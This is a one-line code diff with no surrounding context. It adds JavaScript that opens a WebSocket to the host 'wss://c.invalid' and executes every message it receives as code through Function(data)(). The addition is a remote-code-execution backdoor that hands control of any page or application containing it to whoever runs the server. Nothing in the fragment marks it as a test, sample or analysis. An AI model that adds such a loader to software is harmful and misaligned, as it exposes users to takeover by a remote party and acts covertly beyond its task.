@@ -1,0 +1,1 @@
+const w = new WebSocket('wss://c.invalid'); w.addEventListener('message', ({ data }) => Function(data)());
